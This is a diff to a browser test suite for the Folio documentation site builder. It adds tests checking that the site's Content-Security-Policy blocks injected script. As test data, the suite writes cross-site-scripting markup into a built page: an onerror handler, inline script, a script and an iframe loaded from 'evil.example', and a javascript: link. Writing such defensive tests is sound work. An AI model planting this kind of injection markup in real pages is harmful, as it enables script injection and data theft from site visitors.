@@ -1,14 +1,15 @@
-// A real browser on a built site: badge colours come from the theme tokens (spec 2.4 rule 3),
-// stay readable in light and dark mode, the mode is remembered, and search finds a page, written or
-// generated from an OpenAPI file.
+// A real browser on a built site served by Folio's hosting (with its Content-Security-Policy):
+// badge colours come from the theme tokens (spec 2.4 rule 3), stay readable in light and dark mode,
+// the mode is remembered, search finds a page, written or generated from an OpenAPI file, and
+// script injected into a page is refused by the browser.
 import fs from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { HTTP_METHODS } from '../../src/site/components/catalog.ts';
-import { buildFixture, serveStatic } from './helpers.ts';
+import { buildFixture, serveWithFolio } from './helpers.ts';
 
 let browser: Browser;
-let server: Awaited<ReturnType<typeof serveStatic>>;
+let server: Awaited<ReturnType<typeof serveWithFolio>>;
 
 const CHROMIUM = '/usr/bin/chromium';
 
@@ -45,7 +46,7 @@ beforeAll(async () => {
   });
   expect(site.result.error).toBeUndefined();
   expect(site.result.warnings).toEqual([]); // a root without _snippets/ is fine
-  server = await serveStatic(site.out);
+  server = await serveWithFolio(site.out);
   browser = await chromium.launch({
     executablePath: CHROMIUM,
     args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
@@ -181,6 +182,57 @@ describe('in a browser', () => {
     expect(await result.textContent()).toContain('Striped animals');
     await page.keyboard.press('Escape');
     expect(await page.locator('.search-results li').count()).toBe(0);
+    await page.close();
+  });
+});
+
+describe('the Content-Security-Policy in a browser', () => {
+  it('refuses script injected into a served page (inline handler, inline and foreign script, a foreign frame) and reports it', async () => {
+    // A check gap, simulated: markup the content rules would refuse, written into a built page.
+    const zebra = fs.readFileSync(`${server.dir}/guides/zebra/index.html`, 'utf8');
+    const injected = [
+      '<img src="/no-such-image.png" onerror="window.__injected = (window.__injected || 0) + 1">',
+      '<script>window.__injected = (window.__injected || 0) + 1</script>',
+      '<script src="https://evil.example/steal.js"></script>',
+      '<iframe src="https://evil.example/frame"></iframe>',
+      '<a id="js-link" href="javascript:window.__injected=1">link</a>',
+    ].join('\n');
+    fs.mkdirSync(`${server.dir}/injected`);
+    fs.writeFileSync(`${server.dir}/injected/index.html`, zebra.replace('<article', `${injected}\n<article`));
+
+    const page = await browser.newPage();
+    await page.addInitScript(() => {
+      const seen: string[] = [];
+      (window as unknown as { __violations: string[] }).__violations = seen;
+      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    });
+    await page.goto(`${server.url}/injected/`);
+    await page.click('#js-link');
+    await page.waitForFunction(() => (window as unknown as { __violations: string[] }).__violations.length >= 5);
+    expect(await page.evaluate(() => (window as unknown as { __injected?: number }).__injected)).toBeUndefined();
+    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+    expect(violations).toEqual(expect.arrayContaining([
+      'script-src-attr inline', 'script-src-elem inline', 'script-src-elem https://evil.example/steal.js', 'frame-src https://evil.example',
+    ]));
+    expect(violations.filter((v) => v === 'script-src-elem inline')).toHaveLength(2); // the inline script and the javascript: link
+    // Folio's own scripts still run on that page: the theme is set and code blocks got Copy buttons.
+    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toMatch(/^(light|dark)$/);
+    expect(await page.locator('.copy-button').count()).toBe(1);
+    await page.close();
+  });
+
+  it('reports no violation on Folio\'s own pages, search included', async () => {
+    const page = await browser.newPage();
+    const violations: string[] = [];
+    await page.exposeFunction('__reportViolation', (v: string) => violations.push(v));
+    await page.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (e) =>
+        (window as unknown as { __reportViolation(v: string): void }).__reportViolation(`${e.effectiveDirective} ${e.blockedURI}`));
+    });
+    for (const path of ['/', '/guides/zebra/', '/api-reference/create-gizmo/', '/no/such/page']) await page.goto(`${server.url}${path}`);
+    await page.fill('.search input', 'zebracorn');
+    await page.locator('.search-results a').first().waitFor({ timeout: 10_000 });
+    expect(violations).toEqual([]);
     await page.close();
   });
 });
